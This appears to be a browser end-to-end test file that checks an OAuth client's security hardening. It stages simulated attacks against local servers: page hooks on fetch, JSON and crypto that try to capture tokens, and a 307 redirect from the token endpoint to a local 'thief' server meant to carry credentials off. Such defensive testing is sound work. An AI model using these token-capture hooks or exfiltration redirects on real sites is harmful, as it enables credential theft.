// End-to-end tests of the security review's fixes (issue 11) in each browser engine against
// the real local OpenID provider: hooks installed after load see no token, no refresh storm
// on `expires_in: 0` (fake clock: counts requests, asserts no duration), a redirect from the
// token endpoint never carries a credential away, pending storage stays bounded, and a
// full or throwing storage never breaks the session. Every refusal is one security event.
import { strict as assert } from 'node:assert';
import { once } from 'node:events';
import { createServer } from 'node:http';
import { after, before } from 'node:test';

import {
  assertNoTokenLeak, demoContext, describeEngines, installFakeClock, runClockFor, securityEvents, signInThroughApp, startProvider, startSite,
} from './harness.mjs';

const CLIENT_ID = 'browser-oauth-demo';
let site;
let provider;
/** A server on another origin that records every request body it receives. */
let thief;
const stolen = [];

before(async () => {
  site = await startSite();
  provider = await startProvider({ APP_ORIGIN: site.url });
  const server = createServer((request, response) => {
    let body = '';
    request.on('data', (chunk) => { body += chunk; });
    request.on('end', () => {
      stolen.push({ method: request.method, url: request.url, body });
      response.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'application/json' });
      response.end('{}');
    });
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  thief = { server, url: `http://127.0.0.1:${server.address().port}` };
});

after(async () => {
  thief?.server.close();
  await Promise.all([site?.stop(), provider?.stop()]);
});

/**
 * A browser context for the demo app, recording every token the token endpoint issues and
 * every refresh grant the pages send.
 */
async function openContext(browser, extra = {}) {
  const context = await demoContext(browser, {
    siteUrl: site.url,
    issuer: provider.url,
    clientId: CLIENT_ID,
    scope: 'openid profile email offline_access',
    autoRefresh: false,
    ...extra,
  });
  const tokens = [];
  const refreshGrants = [];
  const isToken = (r) => r.method() === 'POST' && r.url() === `${provider.url}/token`;
  context.on('request', (request) => {
    if (isToken(request) && new URLSearchParams(request.postData() ?? '').get('grant_type') === 'refresh_token') refreshGrants.push(request.url());
  });
  context.on('response', async (response) => {
    if (!isToken(response.request())) return;
    const body = await response.json().catch(() => ({}));
    for (const name of ['access_token', 'refresh_token', 'id_token']) if (body[name]) tokens.push(body[name]);
  });
  return { context, tokens, refreshGrants };
}

/** Signs in through the demo app in a new page of `context`. */
async function signedInPage(context) {
  const { page, code } = await signInThroughApp(context, site.url);
  assert.equal(code, '', 'signed in');
  return page;
}

/** Resolves once `condition()` holds (polled; no duration is asserted). */
async function until(condition) {
  while (!condition()) await new Promise((resolve) => setTimeout(resolve, 20));
}

/** Runs a client method in the page; resolves to 'ok' or the error code. */
function outcome(page, method, ...args) {
  return page.evaluate(([m, a]) => Promise.resolve().then(() => window.demo.client[m](...a)).then(() => 'ok', (e) => e.code ?? String(e)), [method, args]);
}

describeEngines('hardening from the security review (issue 11)', { timeout: 240_000 }, (env) => {
  const { test } = env;
  test('hooks on fetch, JSON, Response, Headers, Request, TextEncoder/TextDecoder, crypto.subtle and atob installed after load capture no token on refresh or logout (item 2)', async () => {
    const { context, tokens } = await openContext(env.browser);
    // The page defines the hook installer itself (an init script runs in the page's realm;
    // Firefox runs WebDriver scripts in a sandbox whose JSON and fetch are not the page's),
    // and the test calls it once signed in: the hooks arrive after our module loaded.
    await context.addInitScript(() => {
      window.__pageParse = (text) => JSON.parse(text);
      window.__installHooks = () => {
        const seen = [];
        const stringify = JSON.stringify;
        const record = (value) => {
          try {
            if (typeof value === 'string') seen.push(value);
            else if (value instanceof Uint8Array || value instanceof ArrayBuffer) seen.push(new window.__Decoder().decode(value));
            else seen.push(stringify(value));
          } catch {
            seen.push(String(value));
          }
      };
      window.__Decoder = TextDecoder;
      const hook = (owner, name) => {
        const original = owner[name];
        owner[name] = function hooked(...args) {
          args.forEach(record);
          const result = Reflect.apply(original, this, args);
          if (result && typeof result.then === 'function') result.then(record, () => {});
          else record(result);
          return result;
        };
      };
      hook(window, 'fetch');
      hook(window, 'atob');
      hook(JSON, 'parse');
      hook(JSON, 'stringify');
      for (const name of ['text', 'json', 'arrayBuffer']) hook(Response.prototype, name);
      for (const name of ['get', 'set', 'append']) hook(Headers.prototype, name);
      hook(TextDecoder.prototype, 'decode');
      hook(TextEncoder.prototype, 'encode');
      hook(TextEncoder.prototype, 'encodeInto');
      hook(crypto.subtle, 'verify');
      hook(crypto.subtle, 'importKey');
      hook(Request.prototype, 'clone');
      window.Request = new Proxy(Request, { construct(target, args) { args.forEach(record); return Reflect.construct(target, args); } });
      window.Headers = new Proxy(Headers, { construct(target, args) { args.forEach(record); return Reflect.construct(target, args); } });
      window.__seen = seen;
      };
    });
    const page = await signedInPage(context);
    await page.evaluate(() => window.__installHooks());
    // The hooks work: the page's own use of the globals is captured.
    await page.evaluate(() => window.__pageParse('{"probe":"hooked"}'));
    assert.ok(await page.evaluate(() => window.__seen.includes('{"probe":"hooked"}')), 'the hooks are live');
    assert.equal(await outcome(page, 'refresh'), 'ok');
    const logout = await page.evaluate(() => window.demo.client.logout());
    assert.deepEqual(logout, { refreshToken: 'revoked', accessToken: 'revoked' });
    const seen = await page.evaluate(() => window.__seen.join('\n'));
    assert.ok(tokens.length >= 5, 'login and refresh issued tokens');
    for (const token of tokens) assert.ok(!seen.includes(token), `a hook saw token ${token.slice(0, 8)}…`);
    await context.close();
  });

  test('expires_in: 0 gives at most a handful of refresh grants in a minute of (fake) time (item 5)', async () => {
    const { context, refreshGrants, tokens } = await openContext(env.browser, { autoRefresh: true });
    // Every token response says the access token is already expired.
    let inFlight = 0;
    await context.route(`${provider.url}/token`, async (route) => {
      inFlight += 1;
      try {
        const response = await route.fetch();
        const json = await response.json();
        if (json.access_token !== undefined) json.expires_in = 0;
        await route.fulfill({ response, json });
      } finally {
        inFlight -= 1;
      }
    });
    await installFakeClock(context);
    const page = await signedInPage(context);
    const before = refreshGrants.length;
    // One minute of page time, a second at a time; after each step the network settles.
    for (let second = 0; second < 60; second += 1) {
      await runClockFor(page, 1_000);
      await new Promise((resolve) => setTimeout(resolve, 30));
      await until(() => inFlight === 0);
    }
    const grants = refreshGrants.length - before;
    assert.ok(grants >= 2, `refresh goes on (${grants} grants)`);
    assert.ok(grants <= 7, `${grants} refresh grants in one minute`);
    const types = await page.evaluate(() => window.demo.events.map((e) => e.type));
    assert.ok(!types.includes('sessionEnded'), types.join());
    await assertNoTokenLeak(page, tokens);
    await context.close();
  });

  test('a 307 from the token and revocation endpoints to another origin never delivers the body there (item 6)', async () => {
    const { context, tokens } = await openContext(env.browser, { maxRefreshAttempts: 1 });
    const page = await signedInPage(context);
    stolen.length = 0;
    const redirect = (route) => route.fulfill({
      status: 307,
      headers: { Location: `${thief.url}/steal`, 'Access-Control-Allow-Origin': site.url },
      body: '',
    });
    await context.route(`${provider.url}/token`, redirect);
    await context.route(`${provider.url}/token/revocation`, redirect);
    assert.equal(await outcome(page, 'refresh'), 'network_error');
    const result = await page.evaluate(() => window.demo.client.logout());
    assert.deepEqual(result, { refreshToken: 'failed', accessToken: 'failed' });
    // The thief is an ordinary server: a request made after these would have arrived by now.
    const probe = await page.evaluate((url) => fetch(url, { method: 'POST', body: 'probe' }).then((r) => r.status), `${thief.url}/probe`);
    assert.equal(probe, 200);
    assert.deepEqual(stolen.map((s) => s.url), ['/probe'], 'nothing but the probe reached the other origin');
    await assertNoTokenLeak(page, tokens);
    await context.close();
  });

  test('100,000 authorizationUrl() calls leave at most 8 pending records, and the last login works (item 13)', async () => {
    const { context, tokens } = await openContext(env.browser);
    const page = await context.newPage();
    await page.goto(`${site.url}/`);
    await page.locator('#status', { hasText: 'ready' }).waitFor();
    const run = await page.evaluate(() => {
      // A live pending login of another client of this origin (another issuer) is its own.
      const foreign = new URLSearchParams({
        s: 'foreign', v: 'dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk', i: 'https://other.example',
        r: `${location.origin}/callback.html`, c: 'openid', a: String(Math.floor(Date.now() / 1000)),
      });
      sessionStorage.setItem('browser-oauth:pending:foreign', foreign.toString());
      const failures = new Set();
      for (let i = 0; i < 100_000; i += 1) {
        try {
          window.demo.client.authorizationUrl({ returnTo: '/inbox' });
        } catch (error) {
          failures.add(error.code ?? String(error));
        }
      }
      const ours = Object.keys(sessionStorage).filter((k) => k.startsWith('browser-oauth:pending:') && k !== 'browser-oauth:pending:foreign');
      return { failures: [...failures], pending: ours.length, foreign: sessionStorage.getItem('browser-oauth:pending:foreign') !== null };
    });
    assert.deepEqual(run.failures, [], 'every call stored its request');
    assert.ok(run.pending >= 1 && run.pending <= 8, `${run.pending} pending records`);
    assert.ok(run.foreign, "another client's pending login is left alone");
    await page.close();
    const signedIn = await signedInPage(context);
    assert.deepEqual(await securityEvents(signedIn), []);
    await assertNoTokenLeak(signedIn, tokens);
    await context.close();
  });

  test('a full or throwing storage fails only the login, typed and as one security event; the session goes on (item 13)', async () => {
    const { context, tokens } = await openContext(env.browser);
    const page = await signedInPage(context);
    await page.evaluate(() => {
      const full = () => { throw new DOMException('full', 'QuotaExceededError'); };
      Storage.prototype.setItem = full;
      Storage.prototype.getItem = full;
      Storage.prototype.key = full;
    });
    assert.equal(await outcome(page, 'authorizationUrl'), 'storage_unavailable');
    assert.deepEqual(await securityEvents(page, provider.url), [['storage_unavailable', 'storage']]);
    assert.equal(await outcome(page, 'refresh'), 'ok');
    assert.equal(await outcome(page, 'getAccessToken'), 'ok');
    const status = await page.evaluate(async (issuer) => (await window.demo.client.fetch(`${issuer}/me`)).status, provider.url);
    assert.equal(status, 200);
    await assertNoTokenLeak(page, tokens);
    await context.close();
  });

  test('client.fetch to an origin off the allowlist is one security event (item 14)', async () => {
    const { context, tokens } = await openContext(env.browser);
    const page = await signedInPage(context);
    assert.equal(await page.evaluate((url) => window.demo.client.fetch(url).then(() => 'sent', (e) => e.code), `${thief.url}/api`), 'origin_not_allowed');
    assert.deepEqual(await securityEvents(page, provider.url), [['origin_not_allowed', 'config']]);
    await assertNoTokenLeak(page, tokens);
    await context.close();
  });
});
